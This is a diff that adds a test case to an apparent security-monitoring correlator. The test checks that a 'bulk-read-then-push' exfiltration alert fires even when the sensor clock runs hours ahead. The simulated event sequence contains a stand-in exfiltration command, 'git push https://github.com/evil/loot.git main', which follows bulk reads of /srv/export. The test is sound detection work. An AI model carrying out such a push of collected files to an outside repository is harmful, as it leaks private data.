@@ -90,6 +90,27 @@ describe('clock trouble and disorder in the correlator', () => {
     expect(correlator.flush()).toEqual([]);
   });
 
+  it('live: a sensor clock hours ahead of the wall clock has a push judged as its events pass it, as a scan does', () => {
+    // The mirror of the old capture: every event is more than the skew ahead of the wall clock, so each was a jump.
+    // The first 16 confirm the node's clock there; the rest must move it as they come, or the push, with 100 s of
+    // the node's events after it, waited for a run of 16 past it or for the wall clock to get there (2 h).
+    const wallMs = Date.now();
+    const s = new Scenario({ startMs: wallMs + 2 * 3_600_000 });
+    const c = s.container();
+    const sh = s.init(c);
+    s.readMany(sh, '/srv/export', 40, 4 * MiB, 60_000);
+    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
+    for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
+    const { correlator } = makeCorrelator();
+    correlator.advance(wallMs);
+    const onTime = [...correlator.ingest(s.events), ...correlator.advance(wallMs + 60_000)];
+    expect(brief(onTime)).toEqual([
+      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+    ]);
+    expect(onTime.map(shape)).toEqual(run(s.events).alerts.map(shape));
+    expect(correlator.flush()).toEqual([]);
+  });
+
   it('live: a push ahead of a wall clock that lags the events (the demo replay clock) is judged on its own time', () => {
     // The push and its reads are 30 min ahead of the wall clock the correlator is given: not a jump of its
     // clock (< 24 h), so judged at its own time with every read; judged on the clock as it was, it was judged
